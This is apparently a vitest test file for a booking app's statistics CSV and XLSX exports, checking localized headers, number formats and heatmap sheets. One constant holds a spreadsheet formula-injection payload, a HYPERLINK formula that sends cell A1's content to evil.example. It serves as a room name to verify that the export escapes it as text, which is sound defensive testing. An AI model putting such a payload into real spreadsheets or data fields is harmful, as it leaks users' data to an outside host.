import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import type { TFigures, TStatistics } from '#contract/statistics';
import { statisticsTables } from '#contract/statistics-tables';
import { csvCells } from '../../../tests/support/csv-cells';
import { namespaceTranslator } from '../../platform/translations';
import { tableCsv, tablesXlsx } from './statistics.export';

/**
 * /statistics's files hold the page's tables (contract/statistics-tables.ts) as numbers a spreadsheet adds
 * up, in the reader's language, with names a spreadsheet would run as formulas written as text. The
 * figures are made by hand here; the service's own are tested beside it.
 */

const usage = (open: number, booked: number) => ({
  openMinutes: open,
  bookedMinutes: booked,
  occupancyBasisPoints: open ? Math.round((booked * 10_000) / open) : null,
});

function figures(overrides: {
  rooms?: TFigures['occupancy']['rooms'];
  revenue?: number;
  noShowRate?: number | null;
}): TFigures {
  const rooms = overrides.rooms ?? [];
  const open = rooms.reduce((sum, room) => sum + room.openMinutes, 0);
  const booked = rooms.reduce((sum, room) => sum + room.bookedMinutes, 0);
  return {
    occupancy: { total: usage(open, booked), rooms, byKind: [], bySpace: [] },
    bookings: {
      total: 10,
      pending: 0,
      confirmed: 8,
      cancelled: 2,
      lateCancelled: 1,
      declined: 0,
      noShows: 1,
      noShowRateBasisPoints: overrides.noShowRate ?? null,
    },
    revenue: {
      currency: 'EUR',
      totalExclVatCents: overrides.revenue ?? 0,
      byMonth: [{ month: '2026-11', exclVatCents: overrides.revenue ?? 0 }],
      bySource: { bookings: overrides.revenue ?? 0, formulas: 0, eventPlaces: 0, other: 0 },
    },
    credits: {
      minutes: { granted: 600, used: 90, expired: 0 },
      entries: { granted: 10, used: 3, expired: 1 },
    },
    memberships: {
      activeAtStart: 4,
      activeAtEnd: 5,
      new: 2,
      cancelled: 1,
      paused: 1,
      mrrCents: 45_000,
      churnBasisPoints: 2500,
    },
    events: {
      events: 1,
      capacity: 20,
      placesTaken: 15,
      fillRateBasisPoints: 7500,
      waitlistedAtStart: 2,
      offersAccepted: 1,
      offersExpired: 1,
      attended: 12,
      noShows: 3,
    },
    members: { new: 3, active: 9 },
    demand: {
      searches: 40,
      searchesMissed: 12,
      searchesEmpty: 5,
      bySize: [{ size: 4, searches: 20, missed: 6, empty: 2 }],
      refused: { 'slot-taken': 3, closed: 1, 'lead-time': 0, horizon: 2 },
      waitlistedAtStart: 2,
    },
  };
}

const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';
const noHours = () => Array.from({ length: 7 }, () => Array.from({ length: 24 }, () => 0));

const statistics: TStatistics = {
  scope: { spaceId: 'space-1', name: 'Acme', timeZone: 'Europe/Paris', spaces: 1, roomId: null },
  period: { from: '2026-11-01', to: '2026-11-27' },
  previousPeriod: { from: '2026-10-05', to: '2026-10-31' },
  current: figures({
    rooms: [{ ...usage(600, 255), roomId: 'r1', name: HOSTILE, kind: 'meeting_room' }],
    revenue: 123_456,
    noShowRate: 1111,
  }),
  previous: figures({
    rooms: [{ ...usage(600, 150), roomId: 'r1', name: HOSTILE, kind: 'meeting_room' }],
    revenue: -1_250,
    noShowRate: null,
  }),
  heatmap: {
    bookedMinutes: noHours().map((day, index) =>
      index === 1 ? day.map((_, hour) => (hour === 10 ? 45 : 0)) : day,
    ),
    openMinutes: noHours().map((day) => day.map((_, hour) => (hour >= 9 && hour < 18 ? 60 : 0))),
  },
  computedAt: '2026-11-27T10:00:00.000Z',
};

const tablesIn = (locale: 'fr' | 'en') => {
  const t = namespaceTranslator(locale, 'statistics');
  return { t, tables: statisticsTables(statistics, t, locale) };
};

describe("/statistics's CSV and XLSX files", () => {
  it('writes a room named like a formula as text, and rates, hours and amounts as numbers', () => {
    const { t, tables } = tablesIn('fr');
    const occupancy = tables.find((table) => table.id === 'occupancy')!;
    const rows = csvCells(tableCsv(occupancy, t));
    expect(rows[0]).toEqual([
      'Salle',
      'Type',
      "Heures d'ouverture (h)",
      'Heures réservées (h)',
      'Occupation (%)',
      'Occupation, période précédente (%)',
      'Évolution (points)',
    ]);
    expect(rows[1]![0]).toBe(`'${HOSTILE}`);
    // 255 of 600 minutes: 4.25 h, 42.5 %; before 25 %: +17.5 points.
    expect(rows[1]!.slice(1)).toEqual(['Salle de réunion', '10', '4,25', '42,5', '25', '17,5']);
  });

  it('compares each measure with the previous period, a rate with nothing to divide by left empty', () => {
    const { t, tables } = tablesIn('en');
    const bookings = csvCells(
      tableCsv(
        tables.find((table) => table.id === 'bookings')!,
        t,
      ),
    );
    expect(bookings[0]).toEqual(['Measure', 'This period', 'Previous period', 'Change']);
    expect(bookings.at(-1)).toEqual(['No-show rate (%)', '11,11', '', '']);
    const revenue = csvCells(
      tableCsv(
        tables.find((table) => table.id === 'revenue-sources')!,
        t,
      ),
    );
    expect(revenue.at(-1)).toEqual(['Total excl. VAT (€ excl. VAT)', '1234,56', '-12,50', '1247,06']);
  });

  it('writes every table as a tab of one workbook that reads back as the page shows it', async () => {
    const { t, tables } = tablesIn('fr');
    const sheets = await readXlsxFile(Buffer.from(await tablesXlsx(tables, t)));
    expect(sheets.map((sheet) => sheet.sheet)).toEqual(tables.map((table) => table.title.slice(0, 31)));
    const occupancy = sheets.find((sheet) => sheet.sheet === 'Occupation par salle')!.data;
    expect(occupancy[1]).toEqual([HOSTILE, 'Salle de réunion', 10, 4.25, 0.425, 0.25, 17.5]);
    const heatmap = sheets.find((sheet) => sheet.sheet.startsWith('Occupation par jour'))!.data;
    expect(heatmap[0]).toEqual([
      'Heure',
      ...['lundi', 'mardi', 'mercredi', 'jeudi', 'vendredi', 'samedi', 'dimanche'].map((day) => `${day} (%)`),
    ]);
    // Open 09:00–18:00; 45 minutes booked on Tuesday 10:00–11:00.
    expect(heatmap.map((row) => row[0])).toHaveLength(10);
    expect(heatmap[2]).toEqual(['10:00–11:00', 0, 0.75, 0, 0, 0, 0, 0]);
  });
});
